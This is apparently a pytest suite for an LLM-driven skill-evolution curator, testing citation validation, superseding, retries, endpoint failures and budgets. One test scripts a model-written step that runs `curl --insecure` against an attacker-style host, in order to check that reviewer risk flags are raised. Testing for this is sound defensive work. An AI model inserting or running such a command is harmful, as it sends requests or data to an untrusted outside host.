"""Evolving with a model behind a scripted endpoint: what is written, and what the run records."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest
from django.db import connection

from conversations.models import Session
from mirix.tenants.models import OrganizationSettings, TokenUsage
from skills.asking import Stopped, slots
from skills.content import Content
from skills.evolution import dialogue
from skills.evolution.curator import evolve
from skills.evolution.library import Library
from skills.evolution.llm import LlmProposer
from skills.evolution.prompt import prompt_version
from skills.models import (
    AutoDreamRun,
    ExperienceStatus,
    ProposerCall,
    RevisionState,
    RunTrigger,
    Skill,
    SkillExperience,
    SkillRevision,
)
from skills.review.editing import edit_skill
from skills.review.history import archive, rollback
from skills.review.publishing import approve, reject
from skills.runs import claim
from skills.search.service import search
from skills.spending import reserved
from tests.endpoints import ChatAnswer, ChatRequest
from tests.factories import make_content, make_experience, make_session, make_skill
from tests.skills.evolution.answers import answer, create, edit, operation

pytestmark = pytest.mark.django_db

ERROR = "Error: reason is required"
PAGE = "1. Look the order up.\n2. Call `cancel_order`.\n3. Say the amount.\n"


@pytest.fixture
def held(owner):
    return claim(owner=owner, trigger=RunTrigger.COMMAND)


@pytest.fixture
def ask(chat_server):
    """Script the answers, the last one for ever; a function makes one of the request."""

    def script(*answers: Any) -> None:
        left = list(answers)

        def reply(request: ChatRequest) -> Any:
            given = left.pop(0) if len(left) > 1 else left[0]
            return given(request) if callable(given) else given

        chat_server.answer = reply

    return script


def lesson(owner, tool: str = "cancel_order", **fields: Any) -> SkillExperience:
    session = make_session(
        owner,
        [
            {"role": "user", "content": "Please cancel my order 17."},
            {"role": "tool", "content": ERROR, "tool_name": tool, "is_error": True},
        ],
    )
    defaults = {
        "experience_type": "worth_avoiding",
        "title": "Do not call `cancel_order` before the reason is known",
        "content": "The tool refuses a call without a reason.",
        "topic": f"tool:{tool}",
        "signal_type": "tool_error",
        "quote": ERROR,
    }
    return make_experience(owner, session, **(defaults | fields))


def cancel_order(owner, **fields: Any) -> Skill:
    texts = {
        "name": "cancel-order",
        "description": "Cancel an order. Use when asked to.",
        "instructions": PAGE,
    }
    return make_skill(owner, make_content(**(texts | fields)))


def statuses(*experiences: SkillExperience) -> list[str]:
    found = SkillExperience.objects.in_bulk([item.pk for item in experiences])
    return [found[item.pk].status for item in experiences]


PENDING, CONSUMED = ExperienceStatus.PENDING, ExperienceStatus.CONSUMED


# What a good answer comes to


def test_a_new_skill_is_proposed_with_the_lessons_that_it_cites(owner, held, ask, chat_server):
    cited, other = lesson(owner), lesson(owner, title="Look the order up first")
    ask(answer(create(cited)))

    report = evolve(owner=owner, claim=held)

    revision = SkillRevision.objects.get()
    assert report.proposed == [revision.pk]
    assert (revision.author_kind, revision.action, revision.name) == ("llm", "create", "cancel-order")
    assert revision.instructions == "1. Ask for the reason.\n2. Call `cancel_order` with it."
    assert revision.triggers == ["cancel my order"]
    assert revision.rationale == "one lesson from one session about cancel order. Because."
    assert list(revision.experiences.all()) == [cited]
    assert statuses(cited, other) == [CONSUMED, PENDING]
    assert (report.refused, chat_server.calls) == ([], 1)


def of_day(owner, day: int, **fields: Any) -> SkillExperience:
    """A lesson of a session that ended on that day of November."""
    found = lesson(owner, **fields)
    Session.objects.filter(pk=found.session_id).update(last_turn_at=datetime(2026, 11, day, tzinfo=UTC))
    return found


def pair(old: SkillExperience, by: SkillExperience) -> dict[str, str]:
    return {"old": old.pk, "by": by.pk}


@pytest.mark.parametrize("write", [True, False])
def test_a_lesson_that_a_newer_one_corrects_gives_way_to_it(owner, held, ask, chat_server, write):
    old, new = of_day(owner, 1), of_day(owner, 2, title="Ask for the reason, then call")
    pairs = [pair(old, new)]
    ask(answer(create(new, superseded=pairs) if write else operation("none", superseded=pairs)))

    report = evolve(owner=owner, claim=held)

    old.refresh_from_db()
    assert (old.status, old.superseded_by) == ("superseded", new)
    assert statuses(new) == [CONSUMED if write else PENDING]
    assert f"{new.pk} took the place of {old.pk}." in [refusal.reason for refusal in report.refused]
    assert "of 2026-11-01T00:00Z turn 1" in chat_server.requests[0].user
    assert not SkillRevision.objects.filter(experiences=old).exists()


@pytest.mark.parametrize(
    ("of_old", "of_new", "why"),
    [
        ({"day": 3}, {"day": 2}, "is not newer than"),
        ({"day": 1}, {"day": 2, "verified": False, "credibility": 0.3}, "is not verified"),
    ],
)
def test_the_models_word_alone_makes_no_lesson_give_way(owner, held, ask, of_old, of_new, why):
    cited = of_day(owner, 9, title="Look the order up first")
    old, new = of_day(owner, **of_old), of_day(owner, **of_new)
    ask(answer(create(cited, superseded=[pair(old, new)])))

    report = evolve(owner=owner, claim=held)

    assert statuses(cited, old, new) == [CONSUMED, PENDING, PENDING]
    (reason,) = [refusal.reason for refusal in report.refused]
    assert reason.startswith("Not superseded: ")
    assert why in reason


def test_what_it_was_not_shown_and_what_it_cites_cannot_be_superseded(
    owner, stranger, held, ask, chat_server
):
    old, new = of_day(owner, 1), of_day(owner, 2)
    foreign, elsewhere = of_day(stranger, 1), of_day(owner, 1, tool="ship_order")
    ask(
        answer(
            create(new, superseded=[pair(foreign, new)]),
            create(new, superseded=[pair(elsewhere, new)]),
            create(old, new, superseded=[pair(old, new)]),
        )
    )

    report = evolve(owner=owner, claim=held)

    assert statuses(old, new, foreign, elsewhere) == [PENDING] * 4
    assert not SkillRevision.objects.exists()
    reasons = {refusal.reason for refusal in report.refused}
    assert f"It cites what it was not shown: {foreign.pk}." in reasons
    assert f"It cites what it says is superseded: {old.pk}." in reasons


def test_where_the_operation_is_refused_nothing_gives_way(owner, held, ask):
    old, new = of_day(owner, 1), of_day(owner, 2, verified=False, credibility=0.3)
    third = of_day(owner, 3, verified=False, credibility=0.3)
    ask(answer(create(third, superseded=[pair(new, third)])))

    evolve(owner=owner, claim=held)

    assert statuses(old, new, third) == [PENDING] * 3


def test_every_question_leaves_a_row_and_counts_its_tokens(owner, held, ask):
    cited = lesson(owner)
    text = answer(create(cited))
    ask(text)

    evolve(owner=owner, claim=held)

    call = ProposerCall.objects.get()
    assert (call.run_id, call.topic, call.model) == (held.run_id, "tool:cancel_order", "scripted")
    assert (call.verdict, call.operations, call.refused, call.error) == ("ok", 1, [], "")
    assert (call.raw_reply, call.experience_ids) == (text, [cited.pk])
    assert (call.calls, call.prompt_tokens, call.completion_tokens) == (1, 100, 10)
    assert call.prompt_version == prompt_version()
    assert len(call.input_hash) == 64
    assert [(day.tokens, day.calls) for day in TokenUsage.objects.all()] == [(110, 1)]


def test_an_edit_replaces_the_words_that_it_names(owner, held, ask):
    skill, cited = cancel_order(owner), lesson(owner)
    ask(
        answer(
            edit(skill, cited, changes=[("2. Call", "2. Ask for the reason, then call")], triggers=["refund"])
        )
    )

    report = evolve(owner=owner, claim=held)

    revision = SkillRevision.objects.get(pk=report.proposed[0])
    assert (revision.action, revision.skill) == ("edit", skill)
    assert revision.instructions == PAGE.replace("2. Call", "2. Ask for the reason, then call")
    assert revision.triggers == [*skill.triggers, "refund"]
    assert statuses(cited) == [CONSUMED]


@pytest.mark.parametrize("odd", [r"\d+", r"\1", r"(?P<x>\w+)", "$1", "{0}", "%(a)s", r"\\", "[a-z]*"])
def test_nothing_in_an_edit_is_a_pattern(owner, held, ask, odd):
    skill, cited = cancel_order(owner), lesson(owner)
    ask(answer(edit(skill, cited, changes=[("Say the amount.", f"Match `{odd}` to \\1.")])))
    (pk,) = evolve(owner=owner, claim=held).proposed
    assert SkillRevision.objects.get(pk=pk).instructions == PAGE.replace(
        "Say the amount.", f"Match `{odd}` to \\1."
    )


def test_a_pattern_as_old_text_matches_nothing(owner, held, ask, chat_server):
    skill, cited = cancel_order(owner), lesson(owner)
    ask(answer(edit(skill, cited, changes=[(r"\d\. Call", "2. Ask, then call")])))

    report = evolve(owner=owner, claim=held)

    assert report.proposed == []
    assert [refusal.reason for refusal in report.refused] == [
        r"In the instructions: The old text “\d\. Call” is not there, letter by letter."
    ]
    assert (statuses(cited), chat_server.calls) == ([PENDING], 2)


def test_edits_of_one_answer_follow_each_other(owner, held, ask):
    skill, one, two = cancel_order(owner), lesson(owner), lesson(owner)
    first = edit(skill, one, changes=[("3. Say", "3. Then say")])
    ask(answer(first, edit(skill, two, changes=[("1. Look", "1. First look")])))

    report = evolve(owner=owner, claim=held)

    revision = SkillRevision.objects.get(pk=report.proposed[0])
    assert revision.instructions == PAGE.replace("3. Say", "3. Then say").replace("1. Look", "1. First look")
    assert set(revision.experiences.all()) == {one, two}
    assert SkillRevision.objects.filter(state=RevisionState.PROPOSED).count() == 1


def test_none_writes_nothing_and_the_run_says_why(owner, held, ask, chat_server):
    cited = lesson(owner)
    ask(answer(operation("none", cited, reason="It is true of one order only.")))

    report = evolve(owner=owner, claim=held)

    (refusal,) = report.refused
    assert refusal.reason == "Nothing is to be written: It is true of one order only."
    assert refusal.experience_ids == (cited.pk,)
    assert (SkillRevision.objects.count(), statuses(cited), chat_server.calls) == (0, [PENDING], 1)


def test_a_lesson_that_a_skill_says_already_supports_it(owner, held, ask):
    skill = cancel_order(
        owner, instructions="1. Ask the reason: `cancel_order` refuses a call without a reason known.\n"
    )
    cited = lesson(owner)
    ask(answer(operation("none", cited, skill=skill.pk, reason="Step 1 says so.")))

    report = evolve(owner=owner, claim=held)

    assert (report.proposed, report.consumed, report.refused) == ([], [cited.pk], [])
    assert cited in skill.current_revision.experiences.all()
    assert statuses(cited) == [CONSUMED]


def test_a_lesson_is_not_used_up_by_a_skill_that_does_not_say_it(owner, held, ask):
    skill = cancel_order(owner)
    cited = lesson(owner, title="Never promise vouchers", content="Managers reject what was promised twice.")
    ask(answer(operation("none", cited, skill=skill.pk)))

    report = evolve(owner=owner, claim=held)

    assert (report.consumed, statuses(cited)) == ([], [PENDING])
    assert len(report.refused) == 1


# Asking for nothing again


def test_what_the_model_left_is_asked_about_again_with_something_new_alone(owner, held, ask, chat_server):
    first = lesson(owner)
    ask(answer(operation("none", first)))
    evolve(owner=owner, claim=held)
    evolve(owner=owner, claim=held)
    assert chat_server.calls == 1

    second = lesson(owner)
    ask(answer(create(first, second)))
    report = evolve(owner=owner, claim=held)

    assert chat_server.calls == 2
    assert sorted(report.consumed) == sorted([first.pk, second.pk])


def test_an_explicit_nothing_settles_a_topic_too(owner, held, ask, chat_server):
    lesson(owner)
    ask(answer())
    evolve(owner=owner, claim=held)
    evolve(owner=owner, claim=held)
    assert chat_server.calls == 1
    assert ProposerCall.objects.get().verdict == "empty"


def test_another_model_is_asked_about_what_the_first_one_left(owner, held, ask, chat_server, settings):
    lesson(owner)
    ask(answer())
    evolve(owner=owner, claim=held)
    settings.MIRIX_LLM_MODEL = "other"
    evolve(owner=owner, claim=held)
    assert [request.body["model"] for request in chat_server.requests] == ["scripted", "other"]


def test_the_model_of_the_run_is_the_one_that_is_asked(owner, ask, chat_server):
    lesson(owner)
    ask(answer())
    evolve(owner=owner, claim=claim(owner=owner, trigger=RunTrigger.API, parameters={"model": "larger"}))
    assert [request.body["model"] for request in chat_server.requests] == ["larger"]
    assert ProposerCall.objects.get().model == "larger"


def test_an_unverified_lesson_alone_is_no_question(owner, held, ask, chat_server):
    lesson(owner, verified=False, credibility=0.2, quote="")
    evolve(owner=owner, claim=held)
    assert chat_server.calls == 0


# What bad models do


def test_a_refused_operation_goes_back_once_with_the_reason(owner, held, ask, chat_server):
    skill, cited = cancel_order(owner), lesson(owner)
    wrong = edit(skill, cited, changes=[("2. call", "2. Ask, then call")])
    ask(answer(wrong), answer(edit(skill, cited, changes=[("2. Call", "2. Ask, then call")])))

    report = evolve(owner=owner, claim=held)

    assert (len(report.proposed), report.refused, statuses(cited)) == (1, [], [CONSUMED])
    again = chat_server.requests[1].user
    reason = "The old text “2. call” is not there, letter by letter. It differs in white space, case"
    assert f"[refused: In the instructions: {reason}" in again
    assert '"old": "2. call"' in again
    first, second = ProposerCall.objects.order_by("created_at")
    assert [part["reason"].startswith(f"In the instructions: {reason}") for part in first.refused] == [True]
    assert (second.refused, second.operations) == ([], 1)


def test_what_is_refused_twice_is_noted_and_stays_pending(owner, held, ask, chat_server):
    cited = lesson(owner)
    ask(answer(create()))

    report = evolve(owner=owner, claim=held)

    assert [refusal.reason for refusal in report.refused] == ["It cites no experience."]
    assert (chat_server.calls, SkillRevision.objects.count(), statuses(cited)) == (2, 0, [PENDING])
    evolve(owner=owner, claim=held)
    assert chat_server.calls == 2


def test_invented_ids_are_refused(owner, held, ask):
    cited = lesson(owner)
    ask(
        answer(
            create(cited, "sexp-0000000000000000000000"),
            edit("proc-0000000000000000000000", cited, changes=[("a", "b")]),
        )
    )

    report = evolve(owner=owner, claim=held)

    assert [refusal.reason for refusal in report.refused] == [
        "It cites what it was not shown: sexp-0000000000000000000000.",
        "It names a skill that it was not shown: proc-0000000000000000000000.",
    ]
    assert [refusal.experience_ids for refusal in report.refused] == [(cited.pk,), (cited.pk,)]
    assert (SkillRevision.objects.count(), statuses(cited)) == (0, [PENDING])


def test_a_lesson_of_anstranger_is_an_invented_id(owner, stranger, held, ask):
    lesson(owner)
    foreign = lesson(stranger)
    ask(answer(create(foreign)))
    report = evolve(owner=owner, claim=held)
    assert [r.reason for r in report.refused] == [f"It cites what it was not shown: {foreign.pk}."]
    assert statuses(foreign) == [PENDING]


def test_a_page_written_anew_is_refused(owner, held, ask):
    long = "".join(f"{n}. Look at item {n * 7919} of the order and note its state.\n" for n in range(1, 41))
    skill, cited = cancel_order(owner, instructions=long), lesson(owner)
    new = "".join(f"{n}. Something else entirely is told here, number {n}.\n" for n in range(1, 41))
    ask(answer(edit(skill, cited, changes=[(long, new)])), answer(edit(skill, cited, instructions=new)))

    report = evolve(owner=owner, claim=held)

    assert [r.reason for r in report.refused] == ["An edit consists of replacements, and there are none."]
    first = ProposerCall.objects.order_by("created_at").first()
    assert first is not None
    assert "the limit is 800" in first.refused[0]["reason"]
    assert (report.proposed, statuses(cited)) == ([], [PENDING])


def test_a_paraphrase_on_every_call_adds_no_skill(owner, ask, chat_server):
    skill = cancel_order(owner)
    names = iter(["order-annulment", "revoke-purchase", "stop-an-order", "undo-order"])

    def paraphrase(request: ChatRequest) -> str:
        ids = [word for word in request.user.split() if word.startswith("sexp-")]
        return answer(
            create(
                *dict.fromkeys(ids),
                name=next(names, "void-order"),
                description="Revoking a purchase. Use when somebody wants a purchase revoked.",
                instructions="- Find the purchase.\n- Revoke it by `cancel_order`.\n- Name the sum.\n",
            )
        )

    ask(paraphrase)
    for _ in range(3):
        cited = lesson(owner)
        report = evolve(owner=owner, claim=claim(owner=owner, trigger=RunTrigger.COMMAND))
        known = f"The skill {skill.pk} (“cancel-order”) is about this already: edit that one, or answer none."
        assert [refusal.reason for refusal in report.refused] == [known]
        assert (report.proposed, statuses(cited)) == ([], [PENDING])
        AutoDreamRun.objects.update(state="finished")
    assert (Skill.objects.count(), SkillRevision.objects.filter(state=RevisionState.PROPOSED).count()) == (
        1,
        0,
    )
    assert chat_server.calls == 6


def test_a_new_skill_with_the_words_of_another_becomes_an_edit_of_it(owner, held, ask):
    skill = cancel_order(owner, name="undo-things", description="How to undo.", triggers=["undo"])
    cited = lesson(owner, topic="task:void-sale", title="Void a sale", content="Say why.")
    ask(
        answer(
            create(
                cited, name="undo-the-things", description="How to undo.", instructions=f"{PAGE}4. Say why.\n"
            )
        )
    )

    report = evolve(owner=owner, claim=held)

    (revision,) = SkillRevision.objects.filter(state=RevisionState.PROPOSED)
    assert (revision.skill, revision.action, report.refused) == (skill, "edit", [])
    assert "4. Say why." in revision.instructions
    assert Skill.objects.count() == 1


def test_what_the_model_adds_of_its_own_is_listed_for_the_reviewer(owner, held, ask):
    cited = lesson(owner)
    ask(answer(create(cited, instructions="1. Run `curl --insecure https://collect.evil-host.com/x`.\n")))
    evolve(owner=owner, claim=held)
    revision = SkillRevision.objects.get()
    assert {"new_address", "unsupported_steps"} <= set(revision.risk_flags)
    assert revision.unsupported


def test_more_operations_than_an_answer_may_hold_are_refused(owner, held, ask):
    cited = lesson(owner)
    ask(answer(*[operation("none", cited)] * 6))
    report = evolve(owner=owner, claim=held)
    assert [refusal.reason for refusal in report.refused].count("An answer may hold 4 operations.") == 2


# What goes wrong on the way


@pytest.mark.parametrize(
    "given",
    [
        "I see nothing.",
        "<html><body>Bad gateway</body></html>",
        '{"operations": [{"action": "create", "na',
        ChatAnswer(text=None, message={"refusal": "I will not."}),
        ChatAnswer(status=500),
        ChatAnswer(closes=True),
        ChatAnswer(status=400, body=b'{"error": "context length exceeded"}'),
    ],
)
def test_without_an_answer_the_lessons_stay_pending_and_the_next_topic_is_asked(
    owner, held, ask, chat_server, given
):
    broken, other = lesson(owner, importance=1.0), lesson(owner, "pay_order", importance=0.5)
    good = answer(create(other, name="pay-order", description="Paying. Use when paying."))
    chat_server.answer = lambda request: given if "TOPIC: tool:cancel_order" in request.user else good

    report = evolve(owner=owner, claim=held)

    assert statuses(broken, other) == [PENDING, CONSUMED]
    (refusal,) = report.refused
    assert refusal.reason.startswith("There is no answer about this topic: ")
    assert (refusal.name, refusal.experience_ids) == ("tool:cancel_order", (broken.pk,))
    failed = ProposerCall.objects.get(topic="tool:cancel_order")
    assert failed.verdict == "retry"
    assert failed.error
    assert SkillExperience.objects.get(pk=broken.pk).considered_by == ""


def test_a_topic_without_an_answer_is_given_up_until_something_is_new(
    owner, held, ask, chat_server, settings
):
    settings.MIRIX_DISTILLER_MAX_ATTEMPTS = 2
    one = lesson(owner)
    ask("I see nothing.")
    reasons = [refusal.reason for _ in range(4) for refusal in evolve(owner=owner, claim=held).refused]
    assert reasons == [
        "There is no answer about this topic: the reply has no JSON.",
        "There is no answer about this topic: the reply has no JSON. It was asked two times and is given up.",
    ]
    assert list(ProposerCall.objects.order_by("created_at").values_list("verdict", flat=True)) == [
        "retry",
        "dead",
    ]

    two = lesson(owner)
    ask(answer(create(one, two)))
    assert sorted(evolve(owner=owner, claim=held).consumed) == sorted([one.pk, two.pk])
    assert chat_server.calls == 3


@pytest.mark.parametrize("status", [401, 404])
def test_an_endpoint_at_fault_is_asked_no_more_in_this_run(owner, held, ask, chat_server, status):
    one, other = lesson(owner), lesson(owner, "pay_order")
    ask(ChatAnswer(status=status))
    report = evolve(owner=owner, claim=held)
    (refusal,) = report.refused
    assert refusal.reason.startswith("The model's endpoint cannot be asked now: ")
    assert refusal.reason.endswith(" Not asked about: two topics.")
    assert (chat_server.calls, statuses(one, other)) == (1, [PENDING, PENDING])


TOOLS = ("cancel_order", "pay_order", "send_order", "find_order", "split_order")
DOWN = ChatAnswer(status=502)


def about(*tools: str) -> Callable[[ChatRequest], bool]:
    return lambda request: any(f"TOPIC: tool:{tool}" in request.user for tool in tools)


def failing_at(*tools: str) -> Callable[[ChatRequest], ChatAnswer | str]:
    return lambda request: DOWN if about(*tools)(request) else "[]"


def calls() -> list[tuple[str, str, bool]]:
    """Of each question its topic, verdict, and whether the endpoint was at fault."""
    rows = ProposerCall.objects.order_by("created_at")
    return list(rows.values_list("topic", "verdict", "is_endpoints_fault"))


class TestAnEndpointThatFails:
    @pytest.fixture(autouse=True)
    def given_up_at_once(self, settings, chat_server):
        settings.MIRIX_DISTILLER_MAX_ATTEMPTS = 1
        settings.MIRIX_LLM_MAX_RETRIES = 0

    @pytest.mark.parametrize(
        "given", [DOWN, ChatAnswer(status=500), ChatAnswer(closes=True), ChatAnswer(sent=5)]
    )
    def test_at_every_topic_is_held_against_none(self, owner, held, ask, chat_server, given):
        one, two = (lesson(owner, tool) for tool in TOOLS[:2])
        ask(given)
        report = evolve(owner=owner, claim=held)
        assert [refusal.reason.rpartition(". ")[2] for refusal in report.refused] == [
            "That is the endpoint's fault, and does not count."
        ] * 2
        assert {row[1:] for row in calls()} == {("retry", True)}
        ask("[]")
        assert evolve(owner=owner, claim=held).refused == []
        assert {item.considered_by for item in SkillExperience.objects.all()} != {""}
        assert statuses(one, two) == [PENDING, PENDING]

    def test_is_asked_about_no_more_than_a_few(self, owner, held, ask, chat_server):
        for tool in TOOLS:
            lesson(owner, tool)
        ask(DOWN)
        report = evolve(owner=owner, claim=held)
        assert chat_server.calls == 3
        assert report.refused[0].reason == (
            "The model's endpoint fails at one topic after the other: the endpoint answered with status 502. "
            "Not asked about: two topics."
        )
        assert {row[1:] for row in calls()} == {("retry", True)}

    def test_and_answers_about_another_fails_because_of_the_topic(self, owner, held, ask, chat_server):
        for place, tool in enumerate(TOOLS[:3]):
            lesson(owner, tool, importance=1 - place / 10)
        chat_server.answer = failing_at(*TOOLS[:2])
        report = evolve(owner=owner, claim=held)
        assert [refusal.reason.rpartition(". ")[2] for refusal in report.refused] == [
            "It was asked one time and is given up."
        ] * 2
        assert calls() == [
            ("tool:cancel_order", "dead", False),
            ("tool:pay_order", "dead", False),
            ("tool:send_order", "empty", False),
        ]
        assert evolve(owner=owner, claim=held).refused == []  # nothing is left to be asked
        assert chat_server.calls == 3

    def test_at_one_topic_alone_fails_because_of_it(self, owner, held, ask, chat_server):
        lesson(owner)
        ask(DOWN)
        evolve(owner=owner, claim=held)
        assert calls() == [("tool:cancel_order", "dead", False)]

    def test_in_the_middle_of_a_run_is_found_out_too(self, owner, held, ask, chat_server):
        for place, tool in enumerate(TOOLS):
            lesson(owner, tool, importance=1 - place / 10)
        chat_server.answer = failing_at(*TOOLS[1:])
        evolve(owner=owner, claim=held)
        assert calls() == [
            ("tool:cancel_order", "empty", False),
            *((f"tool:{tool}", "retry", True) for tool in TOOLS[1:4]),
        ]

    def test_does_not_count_where_the_run_is_stopped(self, owner, held, ask, chat_server):
        for tool in TOOLS:
            lesson(owner, tool)
        ask(DOWN)
        with pytest.raises(Stopped):
            evolve(owner=owner, claim=held, should_stop=lambda: chat_server.calls > 1)
        assert {row[1:] for row in calls()} == {("retry", True)}

    @pytest.mark.parametrize("status", [401, 404])
    def test_does_not_count_later_where_it_was_at_fault(
        self, owner, held, ask, chat_server, settings, status
    ):
        settings.MIRIX_DISTILLER_MAX_ATTEMPTS = 2
        lesson(owner)
        for given in (ChatAnswer(status=status), ChatAnswer(status=status), "I see nothing."):
            ask(given)
            evolve(owner=owner, claim=held)
        assert [row[1:] for row in calls()] == [("retry", True), ("retry", True), ("retry", False)]


def test_when_the_days_tokens_are_used_up_topics_wait(owner, held, ask, chat_server):
    OrganizationSettings.objects.update_or_create(
        organization=owner.organization, defaults={"daily_token_budget": 1_000}
    )
    one = lesson(owner)
    ask(answer(create(one)))
    report = evolve(owner=owner, claim=held)
    (refusal,) = report.refused
    assert refusal.reason.startswith("The day's tokens do not suffice until ")
    assert refusal.reason.endswith(" Not asked about: one topic.")
    assert (chat_server.calls, statuses(one)) == (0, [PENDING])


@pytest.mark.django_db(transaction=True)
def test_what_a_question_may_take_is_reserved_while_it_is_asked(owner, held, ask, chat_server):
    OrganizationSettings.objects.update_or_create(
        organization=owner.organization, defaults={"daily_token_budget": 6_000}
    )
    seen: list[int] = []
    one = lesson(owner)

    def look(request: ChatRequest) -> str:
        seen.append(reserved(organization=owner.organization))
        connection.close()
        return answer(create(one))

    ask(look)
    assert len(evolve(owner=owner, claim=held).proposed) == 1
    assert 3_000 < seen[0] < 6_000
    assert reserved(organization=owner.organization) == 0


def test_a_question_waits_for_a_slot_and_gives_it_back(owner, held, ask, chat_server, settings):
    settings.MIRIX_DISTILLER_MAX_CONCURRENCY = 1
    one = lesson(owner)
    ask(answer(create(one)))
    assert slots.take(patience=0)
    try:
        looks = iter([False, False, True])  # before the topic, and at two glances
        with pytest.raises(Stopped):
            evolve(owner=owner, claim=held, should_stop=lambda: next(looks))
    finally:
        slots.give_back()
    assert (chat_server.calls, statuses(one)) == (0, [PENDING])
    evolve(owner=owner, claim=held)
    assert chat_server.calls == 1
    assert slots.take(patience=0)
    slots.give_back()


def test_what_the_budget_has_no_room_for_waits_and_is_not_asked_about(
    owner, held, ask, chat_server, settings
):
    settings.MIRIX_SKILL_EDIT_BUDGET_MAX = 1
    one, other = lesson(owner, importance=1.0), lesson(owner, "pay_order", importance=0.5)
    ask(answer(create(one)))
    report = evolve(owner=owner, claim=held)
    assert [refusal.reason for refusal in report.refused] == [
        "The budget is used up; not asked about: one topic."
    ]
    assert (chat_server.calls, statuses(one, other)) == (1, [CONSUMED, PENDING])


def test_texts_are_looked_up_for_the_topics_that_are_asked_about_alone(
    owner, held, ask, settings, monkeypatch
):
    settings.MIRIX_SKILL_EDIT_BUDGET_MAX = 1
    for tool in ("cancel_order", "pay_order", "send_order"):
        lesson(owner, tool)
    looked, candidates = [], Library.candidates
    monkeypatch.setattr(
        Library, "candidates", lambda self, topic, rows: looked.append(topic) or candidates(self, topic, rows)
    )
    ask(lambda request: answer(create(*[w for w in request.user.split() if w.startswith("sexp-")][:1])))

    evolve(owner=owner, claim=held)

    assert looked == ["tool:cancel_order"]


def test_a_run_that_is_to_stop_does_so_between_two_topics(owner, held, ask, chat_server):
    one = lesson(owner, importance=1.0)
    lesson(owner, "pay_order", importance=0.5)
    ask(answer(create(one)))
    with pytest.raises(Stopped):
        evolve(owner=owner, claim=held, should_stop=lambda: chat_server.calls > 0)
    assert (chat_server.calls, statuses(one)) == (1, [CONSUMED])


def test_a_crash_between_answer_and_bookkeeping_leaves_nothing_half_done(
    owner, held, ask, chat_server, monkeypatch
):
    cited = lesson(owner)
    ask(answer(create(cited)))

    def crash(**_: Any) -> None:
        raise RuntimeError("crash")

    with monkeypatch.context() as patch:
        patch.setattr(dialogue, "spend", crash)
        with pytest.raises(RuntimeError):
            evolve(owner=owner, claim=held)
    assert (SkillRevision.objects.count(), statuses(cited)) == (0, [PENDING])
    assert len(evolve(owner=owner, claim=held).proposed) == 1
    assert chat_server.calls == 2


@pytest.mark.django_db(transaction=True)
def test_the_model_is_never_asked_inside_a_transaction(owner, held, ask, chat_server, monkeypatch):
    lesson(owner)
    asked = LlmProposer.ask
    inside: list[bool] = []

    def watched(*args: Any) -> Any:
        inside.append(connection.in_atomic_block)
        return asked(*args)

    monkeypatch.setattr(LlmProposer, "ask", watched)
    ask(answer(create()))
    evolve(owner=owner, claim=held)
    assert inside == [False, False]


def test_lessons_of_a_proposal_that_lapsed_are_asked_about_again(owner, held, ask):
    skill, first = cancel_order(owner), lesson(owner)
    earlier = skill.current_revision
    text = Content.of(skill)
    longer = replace(text, instructions=f"{PAGE}4. Say thanks.\n")
    edit_skill(skill=skill, base=earlier, content=longer, author=None, may_decide=True)
    ask(answer(operation("none", first)))
    evolve(owner=owner, claim=held)
    second = lesson(owner)
    ask(answer(edit(skill, first, second, changes=[("4. Say thanks", "4. Say many thanks")])))
    (stale,) = evolve(owner=owner, claim=held).proposed
    rollback(skill=Skill.objects.get(), to=earlier, reason="It was right.")
    ask(answer(edit(skill, first, second, changes=[("2. Call", "2. Ask, then call")])))

    report = evolve(owner=owner, claim=held)

    assert sorted(report.consumed) == sorted([first.pk, second.pk])
    revision = SkillRevision.objects.get(pk=report.proposed[0])
    assert revision.instructions == PAGE.replace("2. Call", "2. Ask, then call")
    assert SkillRevision.objects.get(pk=stale).state == RevisionState.SUPERSEDED


def test_a_change_that_still_fits_is_asked_about_no_more(owner, held, ask, chat_server):
    """It is brought onto what the skill says by now, under the name of the model that wrote it."""
    skill, first = cancel_order(owner), lesson(owner)
    earlier = skill.current_revision
    longer = replace(Content.of(skill), instructions=f"{PAGE}4. Say thanks.\n")
    edit_skill(skill=skill, base=earlier, content=longer, author=None, may_decide=True)
    ask(answer(edit(skill, first, changes=[("2. Call", "2. Ask, then call")])))
    (stale,) = evolve(owner=owner, claim=held).proposed
    calls = chat_server.calls
    back = rollback(skill=Skill.objects.get(), to=earlier, reason="It was right.")

    report = evolve(owner=owner, claim=held)

    revision = SkillRevision.objects.get(state=RevisionState.PROPOSED)
    assert (revision.supersedes_id, revision.base, revision.author_kind) == (stale, back, "llm")
    assert revision.instructions == PAGE.replace("2. Call", "2. Ask, then call")
    assert set(revision.experiences.all()) == {first}
    first.refresh_from_db()
    assert (first.status, chat_server.calls) == ("consumed", calls)
    assert [refusal.reason for refusal in report.refused] == [
        f"{stale} was brought onto what its skill says by now, as {revision.pk}."
    ]
    assert approve(revision=revision).version == "0.1.3"


def test_what_was_left_before_does_not_hold_up_what_is_new(owner, held, ask, chat_server):
    """A question shows twenty lessons: however heavy those are that were asked about, a new one is shown."""
    left = [lesson(owner, title=f"Heavy {number}", importance=1.0) for number in range(25)]
    ask(answer())
    evolve(owner=owner, claim=held)
    evolve(owner=owner, claim=held)
    evolve(owner=owner, claim=held)
    assert chat_server.calls == 2
    shown = [call.experience_ids for call in ProposerCall.objects.order_by("created_at")]
    assert [len(ids) for ids in shown] == [20, 20]
    assert set(shown[0]) | set(shown[1]) == {item.pk for item in left}

    light = lesson(owner, importance=0.1)
    evolve(owner=owner, claim=held)
    assert ProposerCall.objects.latest("created_at").experience_ids[0] == light.pk


def test_a_lesson_that_an_answer_had_no_room_for_is_asked_about_again(owner, held, ask, chat_server):
    one, two = lesson(owner), lesson(owner)
    skill = create(one)
    ask(answer(skill), lambda request: answer(operation("none", two)), answer())
    evolve(owner=owner, claim=held)
    assert statuses(one, two) == [CONSUMED, PENDING]
    evolve(owner=owner, claim=held)
    evolve(owner=owner, claim=held)
    assert chat_server.calls == 2


def test_what_goes_back_is_asked_without_the_lessons_that_were_used(owner, held, ask, chat_server):
    one, two = lesson(owner), lesson(owner)
    ask(answer(create(one), create("sexp-invented")))
    evolve(owner=owner, claim=held)
    assert one.pk in chat_server.requests[0].user
    assert f"[lesson {one.pk}" not in chat_server.requests[1].user
    assert f"[lesson {two.pk}" in chat_server.requests[1].user


def test_what_other_lessons_of_a_topic_taught_is_shown_whatever_it_is_called(owner, held, ask, chat_server):
    first = lesson(owner)
